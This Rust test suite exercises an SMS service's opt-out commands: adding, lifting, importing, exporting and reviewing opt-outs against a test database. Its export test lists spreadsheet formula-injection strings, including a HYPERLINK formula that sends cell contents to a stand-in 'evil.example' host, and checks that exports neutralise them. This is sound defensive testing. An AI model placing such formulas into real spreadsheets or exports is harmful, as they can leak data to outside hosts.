//! Opt-outs by hand and by list: added, lifted, imported, exported, decided about; through the real binary.

use std::io::Write as _;
use std::os::unix::fs::PermissionsExt as _;
use std::process::Stdio;

use chrono::{DateTime, Utc};
use serde_json::{Value, json};
use smshook::phone::{Address, NumberFormat, normalise};
use smshook::store::{ConsentChange, Effect, Imported, ListedOptOut, Source, Store, StoreError};
use sqlx::PgPool;

use crate::cli::{Said, Shell};
use crate::helpers::{self, App, Fake, Intake, SECRET, count};
use crate::testkit::TestDatabase;

const NUMBER: &str = "+12025550143";
/// Two programmes.
const TWO: &str = r#"
[[endpoint]]
name = "shop"
path = "/hooks/sms"
gateway = "mobile-api-connect"
secrets = ["first-secret"]
[[endpoint]]
name = "desk"
path = "/hooks/desk"
gateway = "mobile-api-connect"
secrets = ["first-secret"]
"#;

async fn two_groups() -> (TestDatabase, Shell) {
    let database = TestDatabase::new().await;
    let shell = Shell::over(&database, TWO);
    (database, shell)
}

/// Group, number and source of each opt-out in force, in the order of recording.
async fn in_force(pool: &PgPool) -> Vec<(String, String, String)> {
    sqlx::query_as("SELECT suppression_group, number, source FROM v1.opt_outs WHERE in_force ORDER BY id")
        .fetch_all(pool)
        .await
        .unwrap()
}

/// Everything that consent is made of, row by row.
async fn everything(pool: &PgPool) -> Vec<String> {
    sqlx::query_scalar(
        "SELECT o::text FROM smshook.opt_outs o UNION ALL SELECT e::text FROM smshook.consent_events e
         UNION ALL SELECT n::text FROM smshook.notices n ORDER BY 1",
    )
    .fetch_all(pool)
    .await
    .unwrap()
}

fn owned(rows: &[(&str, &str, &str)]) -> Vec<(String, String, String)> {
    let row = |&(group, number, source): &(&str, &str, &str)| (group.into(), number.into(), source.into());
    rows.iter().map(row).collect()
}

/// The command with `input` on its standard input.
async fn fed(shell: &Shell, arguments: &[&str], input: &[u8]) -> Said {
    let mut command = shell.command(arguments);
    command
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    let input = input.to_vec();
    let ended = tokio::task::spawn_blocking(move || {
        let mut child = command.spawn().unwrap();
        child.stdin.take().unwrap().write_all(&input).unwrap();
        child.wait_with_output().unwrap()
    });
    Said::of(&ended.await.unwrap())
}

// add, remove, list

#[tokio::test]
async fn somebody_who_wants_nothing_from_anybody_is_opted_out_of_every_group() {
    let (database, shell) = two_groups().await;
    let unnamed = shell.run(&["opt-outs", "add", NUMBER]).await.refusal(2);
    assert!(
        unnamed.contains("hint: add `--group NAME`; the configuration has `shop`, `desk`"),
        "{unnamed}"
    );
    let unknown = shell
        .run(&["opt-outs", "add", NUMBER, "--group", "main"])
        .await
        .refusal(2);
    assert!(
        unknown.contains("no suppression group `main`") && unknown.contains("`shop`, `desk`"),
        "{unknown}"
    );
    assert_eq!(in_force(&database.pool).await, []);

    let said = shell
        .run(&[
            "opt-outs",
            "add",
            NUMBER,
            "+12025550144",
            "--all-groups",
            "--note",
            "a letter",
        ])
        .await
        .data();
    assert_eq!(said.lines().count(), 4, "{said}");
    let expected = [
        ("shop", NUMBER, "operator"),
        ("desk", NUMBER, "operator"),
        ("shop", "+12025550144", "operator"),
        ("desk", "+12025550144", "operator"),
    ];
    assert_eq!(in_force(&database.pool).await, owned(&expected));
    shell
        .run(&[
            "opt-outs",
            "remove",
            NUMBER,
            "--endpoint",
            "desk",
            "--note",
            "she called",
        ])
        .await
        .data();
    let listed = shell
        .run(&["opt-outs", "list", "--json", "--group", "desk"])
        .await
        .json();
    assert_eq!(listed.as_array().unwrap().len(), 1, "{listed}");
    assert_eq!(listed[0]["number"], "+12025550144");
    let notes: Vec<Option<String>> = sqlx::query_scalar("SELECT note FROM v1.consent_events ORDER BY id")
        .fetch_all(&database.pool)
        .await
        .unwrap();
    assert_eq!(notes.last().unwrap().as_deref(), Some("she called"));
    assert_eq!(notes.len(), 5);
}

#[tokio::test]
async fn of_several_numbers_all_are_read_before_any_is_changed() {
    let (database, shell) = two_groups().await;
    let refused = shell
        .run(&["opt-outs", "add", NUMBER, "AMAZON", "--group", "shop"])
        .await
        .refusal(2);
    assert!(refused.contains("`AMAZON` is not a number"), "{refused}");
    assert_eq!(in_force(&database.pool).await, []);
}

#[tokio::test]
async fn what_was_asked_for_before_a_later_opt_in_changes_nothing_however_long_ago_it_was() {
    let (database, shell) = two_groups().await;
    let add = async |at: &str| {
        shell
            .run(&["opt-outs", "add", NUMBER, "--group", "shop", "--asked-at", at])
            .await
    };
    add("2025-01-01T00:00:00Z").await.data();
    let remove = ["opt-outs", "remove", NUMBER, "--group", "shop", "--asked-at"];
    let stale = shell
        .run(&[&remove[..], &["2024-01-01T00:00:00Z"]].concat())
        .await
        .refusal(1);
    assert!(stale.contains("has opted out later than that"), "{stale}");
    shell
        .run(&[&remove[..], &["2025-06-01T00:00:00Z"]].concat())
        .await
        .data();
    let superseded = add("2025-05-31T23:59:59Z").await.refusal(1);
    assert!(
        superseded.contains("has opted in later than that: nothing changed"),
        "{superseded}"
    );
    assert_eq!(in_force(&database.pool).await, []);
    add("2025-06-01T00:00:00Z").await.data();
    assert_eq!(in_force(&database.pool).await.len(), 1, "on a tie the opt-out wins");
    for (at, why) in [("2999-01-01T00:00:00Z", "ahead"), ("last week", "RFC 3339")] {
        let refused = add(at).await.refusal(2);
        assert!(refused.contains(why), "{refused}");
    }
}

// import

/// Two numbers of one person among others, in another system's spelling.
const LIST: &str = "number;group;opted_out_at;note\n\
                +1 202 555 0101;shop;2026-02-03T04:05:06Z;\"told us; twice\"\n\
                +12025550102;desk;;\n\
                +5215512345678;shop;2026-02-03;\n\
                +525512345678;shop;2026-02-02;the same number\n\
                +12025550104;shop;2026-02-03;\n\
                +12025550105;shop;2026-02-03;\n";

#[tokio::test]
async fn a_list_is_recorded_once_however_often_it_is_imported() {
    let (database, shell) = two_groups().await;
    sqlx::query("INSERT INTO smshook.webhooks (name) VALUES ('crm')")
        .execute(&database.pool)
        .await
        .unwrap();
    shell
        .run(&["opt-outs", "add", "+12025550104", "--group", "shop"])
        .await
        .data();
    let later = [
        "opt-outs",
        "add",
        "+12025550105",
        "--group",
        "shop",
        "--asked-at",
        "2026-01-01T00:00:00Z",
    ];
    shell.run(&later).await.data();
    shell
        .run(&["opt-outs", "remove", "+12025550105", "--group", "shop"])
        .await
        .data();
    let file = shell.file("list.csv", LIST.as_bytes());
    let import = [
        "opt-outs",
        "import",
        file.to_str().unwrap(),
        "--note",
        "from the old system",
    ];
    let said = shell.run(&import).await;
    assert!(
        said.err.contains("1 entries name a number that another line has"),
        "{said:?}"
    );
    let summary = "group `desk`: 1 new, 0 in force already, 0 opted in later\n\
                   group `shop`: 2 new, 1 in force already, 1 opted in later\n";
    assert_eq!(said.data(), summary);
    let expected = [
        ("shop", "+12025550104", "operator"),
        ("desk", "+12025550102", "import"),
        ("shop", "+12025550101", "import"),
        ("shop", "+5215512345678", "import"),
    ];
    assert_eq!(in_force(&database.pool).await, owned(&expected));
    let told = "SELECT count(*) FROM smshook.notices n JOIN smshook.consent_events e ON e.id = n.event_id WHERE e.source = 'import'";
    assert_eq!(
        count(&database.pool, told).await,
        3,
        "whoever is told of changes is told of each"
    );
    let evidence: Vec<(String, Option<String>, Option<DateTime<Utc>>)> = sqlx::query_as(
        "SELECT effect, note, asked_at FROM v1.consent_events WHERE source = 'import' AND suppression_group = 'shop' ORDER BY number",
    )
    .fetch_all(&database.pool)
    .await
    .unwrap();
    let row =
        |effect: &str, note: &str, at: &str| (effect.to_owned(), Some(note.to_owned()), Some(at.parse().unwrap()));
    let expected = [
        row("began", "told us; twice", "2026-02-03T04:05:06Z"),
        row("superseded", "from the old system", "2026-02-03T23:59:59Z"),
        row("began", "from the old system", "2026-02-03T23:59:59Z"),
    ];
    assert_eq!(
        evidence, expected,
        "what was in force already by a later request is no event"
    );

    let before = everything(&database.pool).await;
    let again = shell.run(&import).await.data();
    assert_eq!(
        again,
        "group `desk`: 0 new, 1 in force already, 0 opted in later\n\
         group `shop`: 0 new, 3 in force already, 1 opted in later\n"
    );
    assert_eq!(everything(&database.pool).await, before);
}

#[tokio::test]
async fn one_bad_line_keeps_the_whole_list_out_unless_the_operator_says_otherwise() {
    let (database, shell) = two_groups().await;
    let list = "number,group,opted_out_at,colour\n\
                +12025550101,shop,,red\n\
                1.20256E+10,shop,,\n\
                \n\
                0202555010,shop,,\n\
                +12025550104,store,,\n\
                +12025550105,shop,3/4/2026,\n\
                +12025550106,,,\n";
    let file = shell.file("list.csv", list.as_bytes());
    let import = ["opt-outs", "import", file.to_str().unwrap()];
    let said = shell.run(&import).await.refusal(1);
    for expected in [
        "`colour`",
        "line 3: `",
        "line 5: `…5010` is not a number (group `shop` reads them as `e164_no_plus`)",
        "line 6: there is no suppression group `store`: the configuration has `shop`, `desk`",
        "line 7: its time cannot be read",
        "line 8: it names no group",
        "5 of 6 entries cannot be taken; nothing was imported",
        "hint: mend those lines, or leave them out with `--skip-bad`",
    ] {
        assert!(said.contains(expected), "{expected}: {said}");
    }
    assert!(!said.contains("202555"), "no number in full: {said}");
    assert_eq!(in_force(&database.pool).await, []);
    let skipped = shell.run(&[&import[..], &["--skip-bad"]].concat()).await.data();
    assert_eq!(skipped, "group `shop`: 1 new, 0 in force already, 0 opted in later\n");
    // what is said for the whole list goes before what a line says
    let all = shell
        .run(&[&import[..], &["--skip-bad", "--all-groups"]].concat())
        .await
        .data();
    assert_eq!(
        all,
        "group `desk`: 3 new, 0 in force already, 0 opted in later\n\
         group `shop`: 2 new, 1 in force already, 0 opted in later\n"
    );
    let many = shell.file("many.txt", "0202555010\n".repeat(1000).as_bytes());
    let said = shell
        .run(&["opt-outs", "import", many.to_str().unwrap(), "--group", "shop"])
        .await
        .refusal(1);
    assert!(said.contains("and 980 more") && said.lines().count() < 30, "{said}");
}

#[tokio::test]
async fn an_imported_opt_out_cancels_what_is_queued_and_holds_at_the_gate() {
    let fake = Fake::start().await;
    let toml = format!(
        "{}[action.answer]\nreply = {{ text = \"hello\" }}\n[[rule]]\nname = \"all\"\nany = true\nactions = [\"answer\"]\n",
        helpers::replying_endpoint(&fake)
    );
    let intake = Intake::start(&toml).await;
    intake.text("12025550143", "hi").await;
    intake.text("12025550199", "hi").await;
    let shell = Shell::over(&intake.database, &toml);
    fed(&shell, &["opt-outs", "import", "-"], b"12025550143\n").await.data();
    let (stop, working) = intake.work(&toml);
    helpers::jobs_ended(intake.pool()).await;
    intake.text("12025550143", "hi again").await;
    helpers::jobs_ended(intake.pool()).await;
    assert_eq!(fake.asked().len(), 1, "only the other person is answered");
    stop.cancel();
    working.await.unwrap();
}

/// A moment of the day before yesterday, which no clock of a machine that tests run on takes for ahead.
fn hour(hour: i64) -> DateTime<Utc> {
    let midnight = Utc::now().date_naive().and_hms_opt(0, 0, 0).unwrap().and_utc();
    midnight - chrono::Duration::hours(48 - hour)
}

fn address(number: &str) -> Address {
    normalise(number, &NumberFormat::E164)
}

/// What an operator says of a number.
async fn say(store: &Store, number: &str, opts_out: bool, asked_at: Option<DateTime<Utc>>, source: Source) -> Effect {
    let address = address(number);
    let change = ConsentChange {
        group: "shop",
        address: &address,
        opts_out,
        source,
        asked_at,
        note: None,
    };
    store.change_consent(&change).await.unwrap()
}

/// What was recorded of a list, of the numbers that end so: number, effect and time, where something came of it.
async fn recorded(pool: &PgPool, last: &'static str) -> Vec<(String, String, Option<i64>)> {
    sqlx::query_as(
        "SELECT left(e.number, -2), e.effect, (extract(epoch FROM e.asked_at))::int8 FROM v1.consent_events e
         WHERE e.source = 'import' AND right(e.number, 2) = $1
           AND (e.effect = 'began' OR e.effect = 'superseded' AND NOT EXISTS (
                SELECT FROM v1.opt_outs o WHERE o.number_key = e.number_key AND o.in_force))
         ORDER BY 1, 2",
    )
    .bind(last)
    .fetch_all(pool)
    .await
    .unwrap()
}

#[tokio::test]
async fn a_list_is_judged_as_each_of_its_lines_would_be() {
    let database = TestDatabase::new().await;
    let store = Store::new(database.options(), 4);
    // what is known before, and when the list says that the person asked
    let histories: [&[(bool, i64)]; 6] = [
        &[],
        &[(true, 10)],
        &[(true, 10), (false, 20)],
        &[(false, 20)],
        &[(true, 10), (false, 20), (true, 30)],
        &[(true, 20), (false, 10)],
    ];
    let times = [
        None,
        Some(hour(5)),
        Some(hour(10)),
        Some(hour(20)),
        Some(hour(25)),
        Some(hour(40)),
    ];
    let (mut singly, mut listed) = (Vec::new(), Vec::new());
    for (nth, history) in histories.iter().enumerate() {
        for (other, asked_at) in times.iter().enumerate() {
            let numbers = [format!("+1202555{nth}{other}01"), format!("+1202555{nth}{other}02")];
            for number in &numbers {
                for &(opts_out, at) in *history {
                    say(&store, number, opts_out, Some(hour(at)), Source::Operator).await;
                }
            }
            singly.push(say(&store, &numbers[0], true, *asked_at, Source::Import).await);
            listed.push(ListedOptOut {
                address: address(&numbers[1]),
                asked_at: *asked_at,
                note: None,
            });
        }
    }
    let imported = store.import_opt_outs("shop", &listed).await.unwrap();
    let of = |effect| u64::try_from(singly.iter().filter(|&&other| other == effect).count()).unwrap();
    // a line that is older than an opt-in, of somebody who has opted out again since, is called in force: that is what matters
    let again = u64::try_from(times.iter().flatten().filter(|&&at| at < hour(20)).count()).unwrap();
    let expected = Imported {
        began: of(Effect::Began),
        in_force: of(Effect::InForce) + again,
        superseded: of(Effect::Superseded) - again,
    };
    assert_eq!(imported, expected);
    assert!(
        expected.began > 5 && expected.in_force > 5 && expected.superseded > 2,
        "{expected:?}"
    );
    // to the second, because a request without a time counts from the moment it is made
    let state = async |last: &'static str| -> Vec<(String, Option<i64>, bool)> {
        sqlx::query_as(
            "SELECT left(number, -2), (extract(epoch FROM opted_out_at) / 60)::int8, in_force FROM v1.opt_outs
             WHERE right(number, 2) = $1 AND NOT (in_force AND opted_out_at > now() - interval '1 minute') ORDER BY 1, id",
        )
        .bind(last)
        .fetch_all(&database.pool)
        .await
        .unwrap()
    };
    let (of_each, of_list) = (state("01").await, state("02").await);
    // an opt-out in force keeps its time where the list gives none: a list is not a new request of the person
    let renewed: Vec<_> = of_list.iter().filter(|row| !of_each.contains(row)).collect();
    assert!(
        renewed
            .iter()
            .all(|(number, _, in_force)| *in_force && number.ends_with('0')),
        "{renewed:?}"
    );
    assert!(
        of_each.iter().all(|row| of_list.contains(row)),
        "{of_each:?}\n{of_list:?}"
    );
    assert_eq!(
        recorded(&database.pool, "01").await,
        recorded(&database.pool, "02").await
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn two_imports_of_a_list_in_another_order_at_once_record_each_number_once() {
    let database = TestDatabase::new().await;
    let store = Store::new(database.options(), 8);
    let mut list: Vec<ListedOptOut> = (0..2_000)
        .map(|nth| ListedOptOut {
            address: address(&format!("+1202{nth:07}")),
            asked_at: None,
            note: None,
        })
        .collect();
    let forwards = list.clone();
    list.reverse();
    let import = async |list: Vec<ListedOptOut>| {
        let mut imported = Imported::default();
        for chunk in list.chunks(500) {
            imported += store.import_opt_outs("shop", chunk).await.unwrap();
        }
        imported
    };
    let (one, other) = tokio::join!(import(forwards), import(list));
    assert_eq!(one.began + other.began, 2_000);
    assert_eq!(one.in_force + other.in_force, 2_000);
    assert_eq!(
        count(&database.pool, "SELECT count(*) FROM v1.consent_events").await,
        2_000
    );
}

#[tokio::test]
async fn nobody_is_imported_where_it_cannot_be_told_who_was_erased() {
    let (database, shell) = two_groups().await;
    sqlx::query("INSERT INTO smshook.erasure_keys (fingerprint) VALUES (decode(repeat('00', 32), 'hex'))")
        .execute(&database.pool)
        .await
        .unwrap();
    for arguments in [
        &["opt-outs", "import", "-", "--group", "shop"][..],
        &["opt-outs", "add", NUMBER, "--group", "shop"],
        &["opt-outs", "proof", NUMBER],
    ] {
        let said = fed(&shell, arguments, b"+12025550143\n").await.refusal(1);
        assert!(said.contains("`privacy.erasure_key`"), "{said}");
    }
    assert_eq!(in_force(&database.pool).await, []);
    let store = Store::new(database.options(), 1);
    let record = store.consent_record(&address(NUMBER)).await;
    assert!(matches!(record, Err(StoreError::OtherErasureKey)));
}

// export

/// Texts that a spreadsheet, a CSV reader or a terminal would make something else of.
const NOTES: [&str; 8] = [
    "=HYPERLINK(\"http://evil.example/\"&A1)",
    "+1, by phone; \"twice\"",
    "-2+3",
    "@SUM(A1)",
    "'=1",
    "line one\r\nline two",
    "\ttab",
    "J\u{f6}rg \u{2019}\u{1f642}",
];

#[tokio::test]
async fn an_export_is_imported_elsewhere_as_it_was_and_no_cell_of_it_is_a_formula() {
    let (database, shell) = two_groups().await;
    for (nth, note) in NOTES.iter().enumerate() {
        let number = format!("+1202555010{nth}");
        let group = if nth % 2 == 0 { "shop" } else { "desk" };
        let add = [
            "opt-outs",
            "add",
            &number,
            "--group",
            group,
            "--asked-at",
            "2026-03-04T05:06:07.891Z",
        ];
        shell
            .run(&[&add[..], &[&format!("--note={note}")]].concat())
            .await
            .data();
    }
    let csv = shell.run(&["opt-outs", "export"]).await.data();
    assert!(
        csv.starts_with("number,group,opted_out_at,recorded_at,source,"),
        "{csv}"
    );
    let first = "\r\n'+12025550100,shop,2026-03-04T05:06:07.891000Z,";
    assert!(csv.contains(first), "{csv}");
    assert!(
        csv.contains(",\"'=HYPERLINK(\"\"http://evil.example/\"\"&A1)\","),
        "{csv}"
    );
    for dangerous in [
        ",=", ",+", ",-", ",@", ",\t", ",\"=", ",\"+", ",\"-", ",\"@", ",\"\t", "\n+",
    ] {
        assert!(!csv.contains(dangerous), "{dangerous:?} in {csv}");
    }
    let json = shell.run(&["opt-outs", "export", "--format", "json"]).await.data();
    let rows: Value = serde_json::from_str(&json).unwrap();
    assert_eq!(rows.as_array().unwrap().len(), NOTES.len());
    assert_eq!(rows[0]["note"], NOTES[0]);
    let lines: Vec<String> = rows.as_array().unwrap().iter().map(Value::to_string).collect();

    let facts = "SELECT number || suppression_group || opted_out_at || note FROM v1.opt_outs ORDER BY number";
    let original: Vec<String> = sqlx::query_scalar(facts).fetch_all(&database.pool).await.unwrap();
    for exported in [csv, json, lines.join("\n")] {
        let (elsewhere, other) = two_groups().await;
        let said = fed(&other, &["opt-outs", "import", "-"], exported.as_bytes()).await;
        assert!(said.err.is_empty(), "{said:?}");
        assert_eq!(said.data().lines().count(), 2);
        let arrived: Vec<String> = sqlx::query_scalar(facts).fetch_all(&elsewhere.pool).await.unwrap();
        let expected: Vec<String> = original.iter().map(|row| format!("{row} (source: operator)")).collect();
        assert_eq!(arrived, expected);
    }
    let one = shell
        .run(&["opt-outs", "export", "--group", "desk", "--format", "json"])
        .await
        .json();
    assert_eq!(one.as_array().unwrap().len(), NOTES.len() / 2);
}

#[tokio::test]
async fn what_was_lifted_or_erased_is_exported_on_demand_and_opts_nobody_out_elsewhere() {
    let (database, shell) = two_groups().await;
    for number in [NUMBER, "+12025550144"] {
        shell.run(&["opt-outs", "add", number, "--group", "shop"]).await.data();
    }
    shell
        .run(&["opt-outs", "remove", NUMBER, "--group", "shop"])
        .await
        .data();
    sqlx::query(
        "INSERT INTO smshook.opt_outs (suppression_group, number, number_key, source, opted_out_at)
         VALUES ('shop', 'hmac:00ff', 'hmac:00ff', 'message', now())",
    )
    .execute(&database.pool)
    .await
    .unwrap();
    let in_force = shell.run(&["opt-outs", "export"]).await.data();
    assert_eq!(in_force.lines().count(), 3, "{in_force}");
    let all = shell.run(&["opt-outs", "export", "--ended"]).await.data();
    assert_eq!(all.lines().count(), 4, "{all}");
    let (elsewhere, other) = two_groups().await;
    let said = fed(&other, &["opt-outs", "import", "-"], all.as_bytes()).await;
    assert!(said.err.contains("1 entries were lifted"), "{said:?}");
    assert!(said.err.contains("1 entries are of people who were erased"), "{said:?}");
    assert_eq!(
        said.data(),
        "group `shop`: 1 new, 0 in force already, 0 opted in later\n"
    );
    assert_eq!(
        self::in_force(&elsewhere.pool).await,
        owned(&[("shop", "+12025550144", "import")])
    );
}

#[tokio::test]
async fn a_file_is_written_whole_or_not_at_all_and_for_its_owner_alone() {
    let (_database, shell) = two_groups().await;
    shell.run(&["opt-outs", "add", NUMBER, "--group", "shop"]).await.data();
    let file = shell.file("list.csv", b"an older one");
    for _ in 0..2 {
        let said = shell
            .run(&["opt-outs", "export", "--output", file.to_str().unwrap()])
            .await;
        assert!(said.err.contains("1 opt-outs are in"), "{said:?}");
        assert_eq!(said.data(), "");
    }
    let text = std::fs::read_to_string(&file).unwrap();
    assert_eq!(text.lines().count(), 2, "{text}");
    let mode = std::fs::metadata(&file).unwrap().permissions().mode();
    assert_eq!(mode & 0o777, 0o600);
    let nowhere = shell.directory.path().join("nowhere/list.csv");
    let refused = shell
        .run(&["opt-outs", "export", "-o", nowhere.to_str().unwrap()])
        .await
        .refusal(1);
    assert!(
        refused.contains("writing to `") && refused.contains("nowhere/list.csv"),
        "{refused}"
    );
    let missing = shell
        .run(&["opt-outs", "import", nowhere.to_str().unwrap()])
        .await
        .refusal(1);
    assert!(missing.contains("reading `"), "{missing}");
    let left: Vec<_> = std::fs::read_dir(shell.directory.path())
        .unwrap()
        .map(|entry| entry.unwrap().file_name())
        .filter(|name| name.to_str().unwrap().contains("partial"))
        .collect();
    assert!(left.is_empty(), "{left:?}");
}

#[tokio::test]
async fn an_export_is_of_one_moment_and_has_every_page() {
    let database = TestDatabase::new().await;
    let store = Store::new(database.options(), 4);
    let listed = |from: i64, to: i64| -> Vec<ListedOptOut> {
        (from..to)
            .map(|nth| ListedOptOut {
                address: address(&format!("+1202{nth:07}")),
                asked_at: None,
                note: None,
            })
            .collect()
    };
    store.import_opt_outs("shop", &listed(0, 2_500)).await.unwrap();
    let mut pages = store.export_opt_outs(false, None).await.unwrap();
    let mut numbers: Vec<String> = Vec::new();
    loop {
        let page = pages.next_page().await.unwrap();
        if page.is_empty() {
            break;
        }
        if numbers.is_empty() {
            store.import_opt_outs("shop", &listed(2_500, 2_600)).await.unwrap();
        }
        numbers.extend(page.into_iter().map(|row| row.number));
    }
    assert_eq!(numbers.len(), 2_500);
    numbers.sort();
    numbers.dedup();
    assert_eq!(numbers.len(), 2_500);
}

// review, dismiss

#[tokio::test]
async fn a_phrase_waits_until_a_person_decides() {
    let toml = format!(
        "[[endpoint]]\nname = \"main\"\npath = \"/hooks/sms\"\ngateway = \"mobile-api-connect\"\nsecrets = [\"{SECRET}\"]\n\
         [endpoint.consent]\nphrases = \"review\"\n"
    );
    let app = App::start(&toml).await;
    let shell = Shell::over(&app.database, &toml);
    let nothing = shell.run(&["opt-outs", "review"]).await;
    assert_eq!(
        (nothing.code, nothing.err.as_str()),
        (Some(0), "nothing waits to be decided\n")
    );
    for from in ["12025550143", "12025550144"] {
        app.text(from, "please stop texting me").await;
    }
    let waiting = shell.run(&["opt-outs", "review", "--json"]).await.json();
    assert_eq!(waiting.as_array().unwrap().len(), 2, "{waiting}");
    assert_eq!(waiting[0]["words"], "please stop texting me");
    assert_eq!(waiting[0]["suppression_group"], "main");
    let table = shell.run(&["opt-outs", "review"]).await;
    assert!(table.err.contains("opt-outs dismiss NUMBER"), "{table:?}");
    assert!(table.data().contains("please stop texting me"));

    let asked = waiting[0]["asked_at"].as_str().unwrap().to_owned();
    shell
        .run(&["opt-outs", "add", NUMBER, "--asked-at", &asked])
        .await
        .data();
    let dismiss = ["opt-outs", "dismiss", "+12025550144", "--note", "meant the other shop"];
    let said = shell.run(&dismiss).await.data();
    assert_eq!(said, "what +12025550144 wrote is no opt-out (group `main`)\n");
    assert_eq!(shell.run(&["opt-outs", "review", "--json"]).await.json(), json!([]));
    let again = shell.run(&dismiss).await.refusal(1);
    assert!(again.contains("nothing of +12025550144 waits to be decided"), "{again}");
    let proof = shell.run(&["opt-outs", "proof", "+12025550144"]).await.data();
    for expected in [
        "left to a person to decide",
        "Decided by the operator: no opt-out",
        "meant the other shop",
    ] {
        assert!(proof.contains(expected), "{proof}");
    }

    app.text("12025550144", "stop texting me").await;
    let waiting = shell.run(&["opt-outs", "review", "--json"]).await.json();
    assert_eq!(
        waiting.as_array().unwrap().len(),
        1,
        "what is written later is decided anew: {waiting}"
    );
}
